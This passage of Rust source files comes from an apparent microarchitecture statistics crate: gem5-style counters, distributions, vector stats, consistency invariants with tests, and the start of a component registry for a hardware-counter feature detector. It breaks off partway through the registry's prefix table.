            g.b.add(*db);
            g.c.add(*dc);
            let row = s.sample(&g);
            for (acc, v) in sums.iter_mut().zip(&row) {
                *acc += v;
            }
        }
        let snap = Snapshot::of(&g, "t");
        prop_assert_eq!(sums[0], snap.get("t.a").unwrap());
        prop_assert_eq!(sums[1], snap.get("t.b").unwrap());
        prop_assert_eq!(sums[2], snap.get("t.c").unwrap());
    }

    #[test]
    fn sampler_deltas_are_never_negative_for_counters(
        increments in proptest::collection::vec(0u64..10_000, 1..30)
    ) {
        let mut g = Trio::default();
        let mut s = Sampler::new(&g, "t");
        for inc in increments {
            g.a.add(inc);
            let row = s.sample(&g);
            prop_assert!(row.iter().all(|&v| v >= 0.0));
        }
    }

    #[test]
    fn distribution_buckets_account_for_every_observation(
        values in proptest::collection::vec(-50.0f64..150.0, 0..200)
    ) {
        let mut d = Distribution::new(0.0, 100.0, 10);
        for &v in &values {
            d.record(v);
        }
        prop_assert_eq!(d.total(), values.len() as u64);

        struct Holder(Distribution);
        impl StatGroup for Holder {
            fn visit(&self, prefix: &str, v: &mut dyn StatVisitor) {
                self.0.visit_item(prefix, "d", v);
            }
        }
        let snap = Snapshot::of(&Holder(d), "x");
        // Sum of underflow + buckets + overflow equals total.
        let total = snap.get("x.d::total").unwrap();
        let sum: f64 = snap
            .names()
            .iter()
            .zip(snap.values())
            .filter(|(n, _)| !n.ends_with("::total") && !n.ends_with("::mean"))
            .map(|(_, v)| v)
            .sum();
        prop_assert_eq!(sum, total);
    }

    #[test]
    fn distribution_mean_matches_arithmetic_mean(
        values in proptest::collection::vec(0.0f64..100.0, 1..100)
    ) {
        let mut d = Distribution::new(0.0, 100.0, 4);
        for &v in &values {
            d.record(v);
        }
        let expect = values.iter().sum::<f64>() / values.len() as f64;
        prop_assert!((d.mean() - expect).abs() < 1e-9);
    }

    #[test]
    fn schema_order_is_stable_across_samples(
        rounds in 1usize..10
    ) {
        let mut g = Trio::default();
        let s0 = Snapshot::of(&g, "t");
        for _ in 0..rounds {
            g.b.inc();
            let s1 = Snapshot::of(&g, "t");
            prop_assert_eq!(s0.names(), s1.names());
        }
    }
}
