//! Leaf statistic values: monotonically increasing counters, floating-point
//! scalars, and running averages.

use crate::group::{StatItem, StatVisitor};

/// A monotonically increasing event counter.
///
/// The workhorse statistic: squash cycles, cache misses, committed
/// instructions, and so on all use `Counter`.
///
/// # Example
///
/// ```
/// use uarch_stats::Counter;
/// let mut c = Counter::default();
/// c.inc();
/// c.add(4);
/// assert_eq!(c.value(), 5);
/// ```
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Counter(u64);

impl Counter {
    /// Creates a counter starting at zero.
    pub fn new() -> Self {
        Self::default()
    }

    /// Increments the counter by one.
    #[inline]
    pub fn inc(&mut self) {
        self.0 += 1;
    }

    /// Adds `n` events to the counter.
    #[inline]
    pub fn add(&mut self, n: u64) {
        self.0 += n;
    }

    /// Returns the current count.
    #[inline]
    pub fn value(&self) -> u64 {
        self.0
    }
}

impl StatItem for Counter {
    fn visit_item(&self, prefix: &str, name: &str, v: &mut dyn StatVisitor) {
        v.scalar(prefix, name, self.0 as f64);
    }
}

impl std::fmt::Display for Counter {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        self.0.fmt(f)
    }
}

/// A floating-point statistic, used for accumulated quantities that are not
/// integral event counts (energy in picojoules, latency sums scaled by
/// weights, ...).
///
/// # Example
///
/// ```
/// use uarch_stats::Scalar;
/// let mut e = Scalar::default();
/// e.add(0.5);
/// assert_eq!(e.value(), 0.5);
/// ```
#[derive(Debug, Default, Clone, Copy, PartialEq, PartialOrd)]
pub struct Scalar(f64);

impl Scalar {
    /// Creates a scalar starting at zero.
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds `x` to the scalar.
    #[inline]
    pub fn add(&mut self, x: f64) {
        self.0 += x;
    }

    /// Overwrites the scalar with `x`.
    #[inline]
    pub fn set(&mut self, x: f64) {
        self.0 = x;
    }

    /// Returns the current value.
    #[inline]
    pub fn value(&self) -> f64 {
        self.0
    }
}

impl StatItem for Scalar {
    fn visit_item(&self, prefix: &str, name: &str, v: &mut dyn StatVisitor) {
        v.scalar(prefix, name, self.0);
    }
}

impl std::fmt::Display for Scalar {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        self.0.fmt(f)
    }
}

/// A running average that reports both its sum and its mean.
///
/// Visiting an `Average` named `lat` emits two stats: `lat_sum` and
/// `lat_avg`, mirroring gem5's habit of reporting latency totals alongside
/// per-event means.
///
/// # Example
///
/// ```
/// use uarch_stats::Average;
/// let mut a = Average::default();
/// a.record(10.0);
/// a.record(20.0);
/// assert_eq!(a.mean(), 15.0);
/// ```
#[derive(Debug, Default, Clone, Copy, PartialEq, PartialOrd)]
pub struct Average {
    sum: f64,
    count: u64,
}

impl Average {
    /// Creates an empty average.
    pub fn new() -> Self {
        Self::default()
    }

    /// Records one observation.
    #[inline]
    pub fn record(&mut self, x: f64) {
        self.sum += x;
        self.count += 1;
    }

    /// Returns the sum of all observations.
    pub fn sum(&self) -> f64 {
        self.sum
    }

    /// Returns the number of observations.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// Returns the mean, or 0.0 when no observation has been recorded.
    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum / self.count as f64
        }
    }
}

impl StatItem for Average {
    fn visit_item(&self, prefix: &str, name: &str, v: &mut dyn StatVisitor) {
        use std::fmt::Write;
        let mut sub = String::with_capacity(name.len() + 4);
        let _ = write!(sub, "{name}_sum");
        v.scalar(prefix, &sub, self.sum);
        sub.truncate(name.len());
        let _ = write!(sub, "_avg");
        v.scalar(prefix, &sub, self.mean());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counter_starts_at_zero_and_accumulates() {
        let mut c = Counter::new();
        assert_eq!(c.value(), 0);
        c.inc();
        c.add(41);
        assert_eq!(c.value(), 42);
    }

    #[test]
    fn scalar_set_overwrites() {
        let mut s = Scalar::new();
        s.add(1.5);
        s.set(3.0);
        assert_eq!(s.value(), 3.0);
    }

    #[test]
    fn average_mean_of_empty_is_zero() {
        assert_eq!(Average::new().mean(), 0.0);
    }

    #[test]
    fn average_tracks_sum_and_count() {
        let mut a = Average::new();
        for x in 1..=4 {
            a.record(x as f64);
        }
        assert_eq!(a.sum(), 10.0);
        assert_eq!(a.count(), 4);
        assert_eq!(a.mean(), 2.5);
    }
}
