//! Vector statistics keyed by an enumerated label set, gem5's
//! `Stats::Vector` with enumerated subnames (`trans_dist::ReadSharedReq`,
//! `op_class_0::IntAlu`, ...).

use std::marker::PhantomData;

use crate::group::{StatItem, StatVisitor};

/// The label set of a [`VectorStat`].
///
/// Implemented by enums such as a memory command or an op class. Indices must
/// be dense in `0..COUNT`.
pub trait StatKey: Copy {
    /// Number of labels.
    const COUNT: usize;

    /// Dense index of this label, in `0..Self::COUNT`.
    fn index(self) -> usize;

    /// Human-readable label for index `i` (used as the `::suffix`).
    fn label(i: usize) -> &'static str;
}

/// A per-label counter vector emitting `name::Label` statistics.
///
/// # Example
///
/// ```
/// use uarch_stats::{StatKey, VectorStat};
///
/// #[derive(Clone, Copy)]
/// enum Kind { A, B }
/// impl StatKey for Kind {
///     const COUNT: usize = 2;
///     fn index(self) -> usize { self as usize }
///     fn label(i: usize) -> &'static str { ["A", "B"][i] }
/// }
///
/// let mut v = VectorStat::<Kind>::new();
/// v.inc(Kind::B);
/// assert_eq!(v.get(Kind::B), 1);
/// ```
#[derive(Debug, Clone)]
pub struct VectorStat<K: StatKey> {
    counts: Vec<u64>,
    _key: PhantomData<K>,
}

impl<K: StatKey> VectorStat<K> {
    /// Creates a zeroed vector stat.
    pub fn new() -> Self {
        Self {
            counts: vec![0; K::COUNT],
            _key: PhantomData,
        }
    }

    /// Increments the counter for `key`.
    #[inline]
    pub fn inc(&mut self, key: K) {
        self.counts[key.index()] += 1;
    }

    /// Adds `n` to the counter for `key`.
    #[inline]
    pub fn add(&mut self, key: K, n: u64) {
        self.counts[key.index()] += n;
    }

    /// Returns the count for `key`.
    pub fn get(&self, key: K) -> u64 {
        self.counts[key.index()]
    }

    /// Returns the sum over all labels.
    pub fn total(&self) -> u64 {
        self.counts.iter().sum()
    }
}

impl<K: StatKey> Default for VectorStat<K> {
    fn default() -> Self {
        Self::new()
    }
}

impl<K: StatKey> StatItem for VectorStat<K> {
    fn visit_item(&self, prefix: &str, name: &str, v: &mut dyn StatVisitor) {
        use std::fmt::Write;
        // One scratch subname reused across labels: walks happen once per
        // sampling interval, so per-label format! allocations add up.
        let mut sub = String::with_capacity(name.len() + 18);
        for (i, c) in self.counts.iter().enumerate() {
            sub.clear();
            let _ = write!(sub, "{name}::{}", K::label(i));
            v.scalar(prefix, &sub, *c as f64);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Snapshot, StatGroup};

    #[derive(Clone, Copy)]
    enum Cmd {
        Read,
        Write,
        Flush,
    }
    impl StatKey for Cmd {
        const COUNT: usize = 3;
        fn index(self) -> usize {
            self as usize
        }
        fn label(i: usize) -> &'static str {
            ["ReadReq", "WriteReq", "FlushReq"][i]
        }
    }

    struct Holder(VectorStat<Cmd>);
    impl StatGroup for Holder {
        fn visit(&self, prefix: &str, v: &mut dyn StatVisitor) {
            self.0.visit_item(prefix, "trans_dist", v);
        }
    }

    #[test]
    fn labels_become_subnames() {
        let mut v = VectorStat::<Cmd>::new();
        v.inc(Cmd::Flush);
        v.add(Cmd::Read, 3);
        let snap = Snapshot::of(&Holder(v), "bus");
        assert_eq!(snap.get("bus.trans_dist::ReadReq"), Some(3.0));
        assert_eq!(snap.get("bus.trans_dist::FlushReq"), Some(1.0));
        assert_eq!(snap.get("bus.trans_dist::WriteReq"), Some(0.0));
    }

    #[test]
    fn total_sums_all_labels() {
        let mut v = VectorStat::<Cmd>::new();
        v.add(Cmd::Read, 2);
        v.add(Cmd::Write, 5);
        assert_eq!(v.total(), 7);
    }
}
