//! Declarative consistency invariants over statistic snapshots.
//!
//! A [`StatInvariant`] states a relation between counters that must hold in
//! every snapshot a correct simulator produces — `committed ≤ fetched`,
//! `hits + misses = accesses`, monotone growth of cycle counters across a
//! sample series. Components declare their invariants next to their stat
//! groups (e.g. `sim_cpu::stat_invariants()`); the `uarch-analysis` crate
//! evaluates them against [`Snapshot`]s after a run, turning silent counter
//! corruption into a checkable lint.
//!
//! Invariants reference statistics by their flat dotted snapshot names. A
//! referenced name that is absent from the snapshot is itself reported as a
//! violation: an invariant that silently stops binding would otherwise rot.

use crate::sampler::Snapshot;

/// The relation an invariant asserts between named statistics.
#[derive(Debug, Clone, PartialEq)]
pub enum InvariantKind {
    /// `lhs ≤ rhs` (within [`TOLERANCE`]).
    Le(String, String),
    /// `lhs = rhs` (within [`TOLERANCE`]).
    Eq(String, String),
    /// `terms[0] + terms[1] + ... = total` (within [`TOLERANCE`]).
    SumEq(Vec<String>, String),
    /// The statistic never decreases from one snapshot to the next. Only
    /// meaningful for series checks; a single snapshot trivially satisfies
    /// it.
    Monotonic(String),
}

/// Absolute slack allowed when comparing floating-point counter values.
pub const TOLERANCE: f64 = 1e-6;

/// A named consistency condition over statistic snapshots.
#[derive(Debug, Clone, PartialEq)]
pub struct StatInvariant {
    /// Stable identifier used in reports (e.g. `commit-le-fetch`).
    pub name: &'static str,
    /// The relation asserted.
    pub kind: InvariantKind,
}

impl StatInvariant {
    /// `lhs ≤ rhs`.
    pub fn le(name: &'static str, lhs: &str, rhs: &str) -> Self {
        Self {
            name,
            kind: InvariantKind::Le(lhs.to_string(), rhs.to_string()),
        }
    }

    /// `lhs = rhs`.
    pub fn eq(name: &'static str, lhs: &str, rhs: &str) -> Self {
        Self {
            name,
            kind: InvariantKind::Eq(lhs.to_string(), rhs.to_string()),
        }
    }

    /// `sum(terms) = total`.
    pub fn sum_eq(name: &'static str, terms: &[&str], total: &str) -> Self {
        Self {
            name,
            kind: InvariantKind::SumEq(
                terms.iter().map(|s| s.to_string()).collect(),
                total.to_string(),
            ),
        }
    }

    /// The statistic never decreases across a sample series.
    pub fn monotonic(name: &'static str, stat: &str) -> Self {
        Self {
            name,
            kind: InvariantKind::Monotonic(stat.to_string()),
        }
    }
}

/// A failed invariant, with enough context to debug the counter drift.
#[derive(Debug, Clone, PartialEq)]
pub struct Violation {
    /// Name of the violated invariant.
    pub invariant: &'static str,
    /// Human-readable description of what went wrong.
    pub detail: String,
}

impl std::fmt::Display for Violation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}: {}", self.invariant, self.detail)
    }
}

fn lookup(
    snap: &Snapshot,
    name: &str,
    invariant: &'static str,
    out: &mut Vec<Violation>,
) -> Option<f64> {
    match snap.get(name) {
        Some(v) => Some(v),
        None => {
            out.push(Violation {
                invariant,
                detail: format!("statistic `{name}` missing from snapshot"),
            });
            None
        }
    }
}

/// Checks every invariant against one snapshot. [`InvariantKind::Monotonic`]
/// invariants only validate that the statistic exists.
pub fn check_snapshot(invariants: &[StatInvariant], snap: &Snapshot) -> Vec<Violation> {
    let mut out = Vec::new();
    for inv in invariants {
        match &inv.kind {
            InvariantKind::Le(lhs, rhs) => {
                let (Some(l), Some(r)) = (
                    lookup(snap, lhs, inv.name, &mut out),
                    lookup(snap, rhs, inv.name, &mut out),
                ) else {
                    continue;
                };
                if l > r + TOLERANCE {
                    out.push(Violation {
                        invariant: inv.name,
                        detail: format!("{lhs} = {l} exceeds {rhs} = {r}"),
                    });
                }
            }
            InvariantKind::Eq(lhs, rhs) => {
                let (Some(l), Some(r)) = (
                    lookup(snap, lhs, inv.name, &mut out),
                    lookup(snap, rhs, inv.name, &mut out),
                ) else {
                    continue;
                };
                if (l - r).abs() > TOLERANCE {
                    out.push(Violation {
                        invariant: inv.name,
                        detail: format!("{lhs} = {l} differs from {rhs} = {r}"),
                    });
                }
            }
            InvariantKind::SumEq(terms, total) => {
                let mut sum = 0.0;
                let mut ok = true;
                for t in terms {
                    match lookup(snap, t, inv.name, &mut out) {
                        Some(v) => sum += v,
                        None => ok = false,
                    }
                }
                let Some(tot) = lookup(snap, total, inv.name, &mut out) else {
                    continue;
                };
                if ok && (sum - tot).abs() > TOLERANCE {
                    out.push(Violation {
                        invariant: inv.name,
                        detail: format!(
                            "sum({}) = {sum} differs from {total} = {tot}",
                            terms.join(" + ")
                        ),
                    });
                }
            }
            InvariantKind::Monotonic(stat) => {
                lookup(snap, stat, inv.name, &mut out);
            }
        }
    }
    out
}

/// Checks every invariant against an ordered series of snapshots (e.g. one
/// per sampling interval). Relational invariants must hold in each snapshot;
/// monotonic invariants must additionally never decrease between consecutive
/// snapshots.
pub fn check_series(invariants: &[StatInvariant], series: &[Snapshot]) -> Vec<Violation> {
    let mut out = Vec::new();
    for (i, snap) in series.iter().enumerate() {
        for v in check_snapshot(invariants, snap) {
            out.push(Violation {
                invariant: v.invariant,
                detail: format!("[sample {i}] {}", v.detail),
            });
        }
    }
    for inv in invariants {
        if let InvariantKind::Monotonic(stat) = &inv.kind {
            for (i, pair) in series.windows(2).enumerate() {
                let (Some(prev), Some(next)) = (pair[0].get(stat), pair[1].get(stat)) else {
                    continue; // absence already reported per snapshot
                };
                if next + TOLERANCE < prev {
                    out.push(Violation {
                        invariant: inv.name,
                        detail: format!(
                            "`{stat}` decreased from {prev} (sample {i}) to {next} (sample {})",
                            i + 1
                        ),
                    });
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{stat_group, Counter};

    stat_group! {
        /// Fake component for invariant tests.
        pub struct FakeStats {
            /// Accesses.
            pub accesses: Counter => "accesses",
            /// Hits.
            pub hits: Counter => "hits",
            /// Misses.
            pub misses: Counter => "misses",
        }
    }

    fn snap(accesses: u64, hits: u64, misses: u64) -> Snapshot {
        let mut s = FakeStats::default();
        s.accesses.add(accesses);
        s.hits.add(hits);
        s.misses.add(misses);
        Snapshot::of(&s, "c")
    }

    fn invariants() -> Vec<StatInvariant> {
        vec![
            StatInvariant::le("hits-le-accesses", "c.hits", "c.accesses"),
            StatInvariant::sum_eq("hits-plus-misses", &["c.hits", "c.misses"], "c.accesses"),
            StatInvariant::monotonic("accesses-monotone", "c.accesses"),
        ]
    }

    #[test]
    fn consistent_counters_pass() {
        assert!(check_snapshot(&invariants(), &snap(10, 7, 3)).is_empty());
    }

    #[test]
    fn broken_sum_is_caught() {
        let v = check_snapshot(&invariants(), &snap(10, 7, 5));
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].invariant, "hits-plus-misses");
    }

    #[test]
    fn broken_bound_is_caught() {
        let v = check_snapshot(&invariants(), &snap(5, 7, 3));
        assert!(v.iter().any(|v| v.invariant == "hits-le-accesses"));
    }

    #[test]
    fn missing_stat_is_a_violation() {
        let inv = [StatInvariant::le(
            "needs-missing",
            "c.hits",
            "c.nonexistent",
        )];
        let v = check_snapshot(&inv, &snap(1, 1, 0));
        assert_eq!(v.len(), 1);
        assert!(v[0].detail.contains("nonexistent"));
    }

    #[test]
    fn monotonic_checks_series_order() {
        let series = [snap(5, 5, 0), snap(9, 8, 1), snap(7, 7, 0)];
        let v = check_series(&invariants(), &series);
        assert!(
            v.iter()
                .any(|v| v.invariant == "accesses-monotone" && v.detail.contains("decreased")),
            "got {v:?}"
        );
    }
}
