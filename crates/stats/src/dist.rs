//! Bucketed distributions, gem5's `Stats::Distribution` analog.

use crate::group::{StatItem, StatVisitor};

/// A histogram over a fixed linear bucket range plus underflow/overflow,
/// also reporting total sample count and mean.
///
/// A distribution named `missLatency` with 4 buckets over `[0, 400)` emits
/// `missLatency::underflow`, `missLatency::0-99`, ... `missLatency::overflow`,
/// `missLatency::total` and `missLatency::mean` — seven statistics from a
/// single field, which is how gem5 reaches four-digit stat counts.
///
/// # Example
///
/// ```
/// use uarch_stats::Distribution;
/// let mut d = Distribution::new(0.0, 400.0, 4);
/// d.record(10.0);
/// d.record(950.0); // overflow
/// assert_eq!(d.total(), 2);
/// ```
#[derive(Debug, Clone)]
pub struct Distribution {
    lo: f64,
    hi: f64,
    buckets: Vec<u64>,
    underflow: u64,
    overflow: u64,
    sum: f64,
    total: u64,
}

impl Distribution {
    /// Creates a distribution with `n` equal buckets spanning `[lo, hi)`.
    ///
    /// # Panics
    ///
    /// Panics if `n == 0` or `hi <= lo`.
    pub fn new(lo: f64, hi: f64, n: usize) -> Self {
        assert!(n > 0, "distribution needs at least one bucket");
        assert!(hi > lo, "distribution range must be non-empty");
        Self {
            lo,
            hi,
            buckets: vec![0; n],
            underflow: 0,
            overflow: 0,
            sum: 0.0,
            total: 0,
        }
    }

    /// Records one observation.
    pub fn record(&mut self, x: f64) {
        self.sum += x;
        self.total += 1;
        if x < self.lo {
            self.underflow += 1;
        } else if x >= self.hi {
            self.overflow += 1;
        } else {
            let width = (self.hi - self.lo) / self.buckets.len() as f64;
            let idx = ((x - self.lo) / width) as usize;
            let idx = idx.min(self.buckets.len() - 1);
            self.buckets[idx] += 1;
        }
    }

    /// Returns the total number of observations.
    pub fn total(&self) -> u64 {
        self.total
    }

    /// Returns the mean observation, or 0.0 when empty.
    pub fn mean(&self) -> f64 {
        if self.total == 0 {
            0.0
        } else {
            self.sum / self.total as f64
        }
    }

    /// Returns the count in bucket `i`.
    ///
    /// # Panics
    ///
    /// Panics if `i` is out of range.
    pub fn bucket(&self, i: usize) -> u64 {
        self.buckets[i]
    }

    /// Returns the number of linear buckets.
    pub fn bucket_count(&self) -> usize {
        self.buckets.len()
    }
}

impl StatItem for Distribution {
    fn visit_item(&self, prefix: &str, name: &str, v: &mut dyn StatVisitor) {
        use std::fmt::Write;
        // One scratch subname reused across buckets (walks run every
        // sampling interval; a format! per bucket is measurable).
        let mut sub = String::with_capacity(name.len() + 24);
        let mut emit = |sub: &mut String, tail: std::fmt::Arguments<'_>, value: f64| {
            sub.clear();
            let _ = write!(sub, "{name}::{tail}");
            v.scalar(prefix, sub, value);
        };
        emit(&mut sub, format_args!("underflow"), self.underflow as f64);
        let width = (self.hi - self.lo) / self.buckets.len() as f64;
        for (i, b) in self.buckets.iter().enumerate() {
            let lo = self.lo + width * i as f64;
            let hi = lo + width - 1.0;
            emit(
                &mut sub,
                format_args!("{}-{}", lo as i64, hi.max(lo) as i64),
                *b as f64,
            );
        }
        emit(&mut sub, format_args!("overflow"), self.overflow as f64);
        emit(&mut sub, format_args!("total"), self.total as f64);
        emit(&mut sub, format_args!("mean"), self.mean());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Snapshot;
    use crate::StatGroup;

    struct Holder(Distribution);
    impl StatGroup for Holder {
        fn visit(&self, prefix: &str, v: &mut dyn StatVisitor) {
            self.0.visit_item(prefix, "lat", v);
        }
    }

    #[test]
    fn records_land_in_the_right_bucket() {
        let mut d = Distribution::new(0.0, 40.0, 4);
        d.record(5.0); // bucket 0
        d.record(15.0); // bucket 1
        d.record(39.9); // bucket 3
        assert_eq!(d.bucket(0), 1);
        assert_eq!(d.bucket(1), 1);
        assert_eq!(d.bucket(3), 1);
        assert_eq!(d.total(), 3);
    }

    #[test]
    fn underflow_and_overflow_are_tracked() {
        let mut d = Distribution::new(10.0, 20.0, 2);
        d.record(5.0);
        d.record(25.0);
        let snap = Snapshot::of(&Holder(d), "c");
        assert_eq!(snap.get("c.lat::underflow"), Some(1.0));
        assert_eq!(snap.get("c.lat::overflow"), Some(1.0));
        assert_eq!(snap.get("c.lat::total"), Some(2.0));
    }

    #[test]
    fn emits_buckets_plus_three_summary_stats() {
        let d = Distribution::new(0.0, 100.0, 5);
        let snap = Snapshot::of(&Holder(d), "c");
        // underflow + 5 buckets + overflow + total + mean
        assert_eq!(snap.names().len(), 9);
    }

    #[test]
    #[should_panic(expected = "at least one bucket")]
    fn zero_buckets_panics() {
        let _ = Distribution::new(0.0, 1.0, 0);
    }
}
