//! Stat groups: structs of statistics walked by a visitor to produce flat
//! dotted names.

/// Receives every leaf statistic of a walked [`StatGroup`].
///
/// `prefix` is the dotted path of the owning component (e.g. `"fetch"` or
/// `"system.l2"`), `name` the statistic's own name. Implementors join them
/// with [`join_name`].
pub trait StatVisitor {
    /// Called once per leaf statistic.
    fn scalar(&mut self, prefix: &str, name: &str, value: f64);
}

/// Joins a component prefix and a statistic name into a gem5-style dotted
/// name.
///
/// # Example
///
/// ```
/// assert_eq!(uarch_stats::group::join_name("fetch", "SquashCycles"),
///            "fetch.SquashCycles");
/// assert_eq!(uarch_stats::group::join_name("", "numCycles"), "numCycles");
/// ```
pub fn join_name(prefix: &str, name: &str) -> String {
    if prefix.is_empty() {
        name.to_string()
    } else {
        format!("{prefix}.{name}")
    }
}

/// A component's bundle of statistics.
///
/// Implemented by the [`stat_group!`](crate::stat_group) macro; visit walks
/// every statistic in declaration order, which gives a stable schema.
pub trait StatGroup {
    /// Walks every statistic in the group, reporting each to `v` under
    /// `prefix`.
    fn visit(&self, prefix: &str, v: &mut dyn StatVisitor);
}

/// A single named item inside a [`StatGroup`]: either a leaf value or a
/// nested group.
pub trait StatItem {
    /// Reports this item (and any sub-items) to `v`.
    fn visit_item(&self, prefix: &str, name: &str, v: &mut dyn StatVisitor);
}

/// Defines a statistics struct and wires up [`StatGroup`]/[`StatItem`].
///
/// Each field maps to a gem5-style statistic name. Nested groups compose:
/// naming a field whose type itself implements [`StatItem`] (as generated
/// structs do) produces `prefix.field.*` names.
///
/// # Example
///
/// ```
/// use uarch_stats::{stat_group, Counter, Snapshot};
///
/// stat_group! {
///     /// Inner group.
///     pub struct LsqStats {
///         /// Loads squashed by mispredicted branches.
///         pub squashed_loads: Counter => "squashedLoads",
///     }
/// }
/// stat_group! {
///     /// Outer group.
///     pub struct IewStats {
///         /// Cycles spent squashing.
///         pub squash_cycles: Counter => "SquashCycles",
///         /// Load/store queue statistics.
///         pub lsq: LsqStats => "lsq",
///     }
/// }
///
/// let mut s = IewStats::default();
/// s.lsq.squashed_loads.inc();
/// let snap = Snapshot::of(&s, "iew");
/// assert_eq!(snap.get("iew.lsq.squashedLoads"), Some(1.0));
/// ```
#[macro_export]
macro_rules! stat_group {
    (
        $(#[$meta:meta])*
        pub struct $name:ident {
            $(
                $(#[$fmeta:meta])*
                pub $field:ident : $ty:ty => $sname:literal
            ),* $(,)?
        }
    ) => {
        $(#[$meta])*
        #[derive(Debug, Default, Clone)]
        pub struct $name {
            $( $(#[$fmeta])* pub $field: $ty, )*
        }

        impl $crate::StatGroup for $name {
            fn visit(&self, prefix: &str, v: &mut dyn $crate::StatVisitor) {
                $( $crate::StatItem::visit_item(&self.$field, prefix, $sname, v); )*
            }
        }

        impl $crate::StatItem for $name {
            fn visit_item(&self, prefix: &str, name: &str, v: &mut dyn $crate::StatVisitor) {
                let nested = $crate::group::join_name(prefix, name);
                $crate::StatGroup::visit(self, &nested, v);
            }
        }
    };
}

#[cfg(test)]
mod tests {
    use crate::{Counter, Snapshot};

    stat_group! {
        /// Test group with two counters.
        pub struct TwoCounters {
            /// First.
            pub a: Counter => "A",
            /// Second.
            pub b: Counter => "B",
        }
    }

    stat_group! {
        /// Nests `TwoCounters`.
        pub struct Nest {
            /// Inner group.
            pub inner: TwoCounters => "inner",
            /// A top-level counter.
            pub top: Counter => "Top",
        }
    }

    #[test]
    fn visit_emits_declaration_order() {
        let g = TwoCounters::default();
        let snap = Snapshot::of(&g, "t");
        assert_eq!(snap.names(), &["t.A".to_string(), "t.B".to_string()]);
    }

    #[test]
    fn nested_groups_get_dotted_prefixes() {
        let mut g = Nest::default();
        g.inner.b.add(7);
        g.top.add(2);
        let snap = Snapshot::of(&g, "x");
        assert_eq!(snap.get("x.inner.B"), Some(7.0));
        assert_eq!(snap.get("x.Top"), Some(2.0));
    }

    #[test]
    fn empty_prefix_omits_leading_dot() {
        let g = TwoCounters::default();
        let snap = Snapshot::of(&g, "");
        assert_eq!(snap.names()[0], "A");
    }
}
