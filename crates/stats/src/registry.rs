//! The canonical pipeline-component registry.
//!
//! PerSpectron's detector replicates features across *17 distinct pipeline
//! components* (§V): the out-of-order core's stages and structures plus the
//! memory hierarchy's caches, buses and DRAM controller. Before this module
//! existed, that taxonomy lived in three independent string-parsing copies
//! (feature selection, stat registration, the census binary); this registry
//! is the single source of truth they all resolve through.
//!
//! A [`ComponentId`] is the component itself; its prefixes
//! (`ComponentId::prefixes`) are the dotted-stat-name prefixes the component
//! publishes under. Some components publish under several prefixes because
//! gem5 (and the paper's Table I) exposes the same physical unit under alias
//! names: the IEW unit also surfaces its LSQ and memory-dependence groups at
//! top level (`lsq.*`, `memDep.*`), and the data TLB is spelled both `dtb`
//! and `dtlb`. Aliased statistics are perfectly correlated replicas — which
//! is exactly the paper's replicated-feature premise.
//!
//! # Example
//!
//! ```
//! use uarch_stats::registry::{ComponentId, ComponentRegistry};
//!
//! assert_eq!(ComponentId::ALL.len(), 17);
//! assert_eq!(
//!     ComponentRegistry::component_of("fetch.SquashCycles"),
//!     Some(ComponentId::Fetch)
//! );
//! // Aliases resolve to the same physical component...
//! assert_eq!(
//!     ComponentRegistry::component_of("lsq.thread0.forwLoads"),
//!     Some(ComponentId::Iew)
//! );
//! // ...while the legacy prefix label is preserved for feature grouping.
//! assert_eq!(ComponentRegistry::label_of("lsq.thread0.forwLoads"), "lsq");
//! assert_eq!(ComponentRegistry::label_of("dtlb.rdMisses"), "dtb");
//! ```

/// One of the paper's 17 pipeline components.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum ComponentId {
    /// Instruction fetch (including the I-TLB walk counters under `itb`
    /// stay separate — see [`ComponentId::Itb`]).
    Fetch,
    /// Decode.
    Decode,
    /// Register rename.
    Rename,
    /// Instruction queue / issue select.
    Iq,
    /// Issue/execute/writeback, including its LSQ and memory-dependence
    /// sub-units (also published under the top-level `lsq.*` / `memDep.*`
    /// aliases).
    Iew,
    /// Commit.
    Commit,
    /// Reorder buffer.
    Rob,
    /// Branch predictor (tournament tables, BTB, RAS).
    BranchPred,
    /// Data TLB (published as both `dtb` and `dtlb`).
    Dtb,
    /// Instruction TLB.
    Itb,
    /// CPU-level counters (dotless names such as `numCycles`).
    Cpu,
    /// L1 instruction cache.
    ICache,
    /// L1 data cache.
    DCache,
    /// Shared L2 cache.
    L2,
    /// L1↔L2 crossbar.
    ToL2Bus,
    /// Memory bus (L2↔DRAM).
    MemBus,
    /// DRAM controller.
    MemCtrl,
}

impl ComponentId {
    /// Every component, in the canonical (schema visit) order.
    pub const ALL: [ComponentId; 17] = [
        ComponentId::Fetch,
        ComponentId::Decode,
        ComponentId::Rename,
        ComponentId::Iq,
        ComponentId::Iew,
        ComponentId::Commit,
        ComponentId::Rob,
        ComponentId::BranchPred,
        ComponentId::Dtb,
        ComponentId::Itb,
        ComponentId::Cpu,
        ComponentId::ICache,
        ComponentId::DCache,
        ComponentId::L2,
        ComponentId::ToL2Bus,
        ComponentId::MemBus,
        ComponentId::MemCtrl,
    ];

    /// The component's primary stat-name prefix — the one the simulator
    /// registers the component's stat group under. [`ComponentId::Cpu`] is
    /// the exception: its counters are dotless, so its prefix is empty.
    pub const fn prefix(self) -> &'static str {
        match self {
            ComponentId::Fetch => "fetch",
            ComponentId::Decode => "decode",
            ComponentId::Rename => "rename",
            ComponentId::Iq => "iq",
            ComponentId::Iew => "iew",
            ComponentId::Commit => "commit",
            ComponentId::Rob => "rob",
            ComponentId::BranchPred => "branchPred",
            ComponentId::Dtb => "dtb",
            ComponentId::Itb => "itb",
            ComponentId::Cpu => "",
            ComponentId::ICache => "icache",
            ComponentId::DCache => "dcache",
            ComponentId::L2 => "l2",
